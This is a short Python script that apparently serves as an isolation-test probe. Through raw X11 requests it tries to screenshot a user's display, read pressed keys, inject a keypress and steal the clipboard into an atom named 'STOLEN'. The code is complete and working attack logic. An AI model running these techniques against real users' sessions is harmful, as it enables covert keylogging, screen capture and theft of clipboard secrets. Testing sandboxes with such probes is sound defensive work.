"""Takes a screenshot, reads keys, sends keys, reads the clipboard of the user's X server (IPC, "X11")."""
import struct
import sys
from attack import attempt, say, tried
from xclient import Display

what, number = sys.argv[1:]
tried()
display = attempt(lambda: Display(number), "connect")
if display and what == "screenshot":
    image = display.ask(73, 2, "IhhHHI", display.root, 32, 32, 1, 1, 0xFFFFFFFF)
    say("PIXEL", f"{struct.unpack_from('<I', image, 32)[0] & 0xFFFFFF:06x}")
elif display and what == "keys":
    keymap = display.ask(44, 0)[8:40]
    for code in range(256):
        if keymap[code // 8] >> code % 8 & 1:
            say("KEY", code)
elif display and what == "send":
    display.press(40)
    display.press(40, kind=3)
elif display and what == "clipboard":
    window, name, string = display.window(), display.atom("STOLEN"), display.atom("STRING")
    display.send(24, 0, "IIIII", window, display.atom("CLIPBOARD"), string, name, 0)
    while display.event()[0] & 127 != 31:
        pass
    answer = display.ask(20, 0, "IIIII", window, name, 0, 0, 1024)
    say("READ", answer[32 : 32 + struct.unpack_from("<I", answer, 16)[0]].decode())
